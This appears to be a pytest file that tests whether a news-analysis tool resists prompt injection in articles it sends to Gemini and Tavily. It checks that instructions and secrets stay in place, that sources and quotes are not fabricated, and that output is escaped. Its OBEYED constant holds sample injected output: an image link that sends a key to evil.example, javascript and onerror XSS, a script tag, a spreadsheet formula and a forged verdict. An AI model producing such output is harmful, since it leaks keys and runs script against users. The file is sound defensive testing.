"""Attacks through the real Gemini and Tavily clients: what is sent, and what becomes of an answer by a model that obeys them."""

import html
import json
import os
import re
from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy import text

from console.reader import highlighted
from console.signal_card import evidence_in_context
from console.words import plain
from core import launching, signals
from core.agents.prompts import prompt
from core.articles import get_article
from core.clock import utc_now
from core.configuration import Desk
from core.exports import Export, Format, Table, export_rows
from core.models import BatchStatus
from core.research import web_results
from core.selection import ArticleFilter, Selection
from tests.core.attacks import ATTACKS
from tests.core.test_run import finish
from tests.loopback import LoopbackProviders

OBEYED = (
    "![x](https://evil.example/p.png?key=loopback-gemini) [click](javascript:alert(1)) <img src=x onerror=alert(1)> <script>1</script>"
    " https://evil.example/?k=1 =HYPERLINK(1) VALIDATED with confidence 1.0"
)


@pytest.fixture(scope="module")
def providers() -> Iterator[LoopbackProviders]:
    with LoopbackProviders(words=OBEYED, fabricated_quotes=0.3, fabricated_urls=0.5, signals=(1, 3), traffic=2_000, seed=5) as loopback:
        yield loopback


@pytest.fixture
def desk_of_attacks(database: Any, make_settings: Any, articles: Any, providers: LoopbackProviders) -> Desk:
    """A desk with an article for each attack, all analysed and researched by a model that obeys."""
    providers.reset()
    for attack in ATTACKS.values():
        paragraphs = [f"Miner nine sold {100 + n} coins on day {n}, a spokesperson said in the valley." for n in range(30)]
        articles(1, title=f"News {attack[:80]}".strip(), body="\n\n".join([*paragraphs[:12], attack, *paragraphs[12:]]))
    desk = Desk(
        database,
        make_settings(
            gemini_api_key=providers.env()["GEMINI_API_KEY"],
            gemini_base_url=providers.url,
            tavily_api_key=providers.env()["TAVILY_API_KEY"],
            tavily_base_url=providers.url,
            daily_budget="50",
            minimum_confidence=0,
        ),
    )
    selection = Selection.of_filter(ArticleFilter(ready_only=False))
    with database.session() as session:
        batch_id = launching.launch(session, selection, desk.settings(session), by="tester", now=utc_now())
    assert finish(desk, batch_id).status is BatchStatus.COMPLETED
    return desk


def test_attacks_stay_in_their_place_and_obedience_changes_nothing(desk_of_attacks: Desk, providers: LoopbackProviders) -> None:
    desk = desk_of_attacks
    the_instructions_are_the_desks_alone(desk, providers)
    every_source_and_quote_is_real(desk, providers)
    nothing_is_live_on_screen(desk)
    an_export_is_harmless(desk)


def the_instructions_are_the_desks_alone(desk: Desk, providers: LoopbackProviders) -> None:
    asked = [json.loads(one["request"]) for one in providers.traffic("gemini")]
    assert len(asked) >= len(ATTACKS)
    instructions = {"".join(part["text"] for part in one["systemInstruction"]["parts"]) for one in asked}
    own = [prompt(name).text for name in ("content_analysis", "signal_validation")]
    # Where a text looks like a frame of its own, pydantic-ai announces to the model, in fixed words, that it is none.
    assert {len(one) for one in instructions} <= {len(text) + added for text in own for added in {0, *announced(instructions, own)}}
    assert all(any(text in one for text in own) for one in instructions)
    assert not any(attack in one for one in instructions for attack in ATTACKS.values())
    for one in asked:
        first = one["contents"][0]
        assert first["role"] == "user"
        message = "".join(part["text"] for part in first["parts"])
        assert len(re.findall(r"</?article\b", message)) in (0, 2)
        assert {content["role"] for content in one["contents"]} <= {"user", "model"}
    secrets = [os.environ.get("PATH", ""), str(desk.database.engine.url.password), providers.env()["TAVILY_API_KEY"]]
    sent = [one["request"].replace("tvly-loopback", "") for one in providers.traffic("tavily")] + [json.dumps(one) for one in asked]
    for secret in secrets:
        assert not any(secret in body for body in sent if len(secret) > 4)
    assert all("loopback-gemini" not in json.dumps(one["systemInstruction"]) for one in asked)


def announced(instructions: set[str], own: list[str]) -> set[int]:
    """Lengths of what the library adds; the same for both agents, so none of it is an article's."""
    added = [{len(one) - len(text) for one in instructions if text in one} for text in own]
    return added[0] & added[1]


def every_source_and_quote_is_real(desk: Desk, providers: LoopbackProviders) -> None:
    came_back = {result.url for one in providers.traffic("tavily") for result in web_results(json.loads(one["answer"]))}
    with desk.database.session() as session:
        sources = session.execute(text("SELECT url, article_id, quote FROM validation_sources")).all()
        quotes = session.execute(
            text(
                'SELECT e.quote, e.start, e."end", a.body FROM evidence e JOIN signals s ON s.id = signal_id JOIN articles a ON a.id = article_id'
            )
        ).all()
        counts = session.execute(
            text("SELECT (SELECT sum(dropped_quotes) FROM analyses), (SELECT sum(dropped_sources) FROM validations)")
        ).one()
        unsupported = session.scalar(
            text(
                "SELECT count(*) FROM validations v WHERE verdict IN ('VALIDATED', 'CONTRADICTED')"
                " AND NOT EXISTS (SELECT FROM validation_sources WHERE validation_id = v.id)"
            )
        )
    assert len(sources) > 20
    assert all(article_id is not None or url in came_back for url, article_id, _ in sources)
    assert not any("evil.example" in url for url, _, _ in sources)
    assert len(quotes) > 40
    assert all(body[start:end] == quote for quote, start, end, body in quotes)
    assert min(counts) > 0, "the model did make things up"
    assert unsupported == 0, "a verdict of a model that names no source is none"


def nothing_is_live_on_screen(desk: Desk) -> None:
    with desk.database.session() as session:
        ids = session.scalars(text("SELECT id FROM articles ORDER BY id")).all()
        for article_id in ids:
            article = get_article(session, article_id)
            for signal in signals.signals_in_article(session, article_id):
                for body, marks in evidence_in_context(article, signal):
                    shown = highlighted(body, marks, chosen=signal.id, numbers={signal.id: 1})
                    inside = re.sub(r"<style>.*?</style>", "", shown)
                    assert set(re.findall(r"<\s*/?\s*([a-zA-Z]+)", inside)) <= {"div", "p", "br", "mark", "a", "sup", "span"}
                    assert all(target.startswith("#") for target in re.findall(r'href="([^"]*)"', inside))
                    told = html.unescape(re.sub(r"<sup.*?</sup>|<[^>]+>", "", inside))
                    assert "".join(told.split()) == "".join(body.split()), "every character of the article is shown as text"
                for words in (signal.description, signal.implications, signal.category):
                    escaped = plain(words)
                    assert not re.search(r"(?<!\\)(?:!\[|\]\(|<[a-z/]|https?://)", escaped, re.IGNORECASE)


def an_export_is_harmless(desk: Desk) -> None:
    with desk.database.session() as session:
        rows = list(export_rows(session, Export(Table.SIGNALS, Format.CSV)))
    assert rows
    assert all(row["description"] == OBEYED[:2_000] for row in rows), "an export has the words as they are"
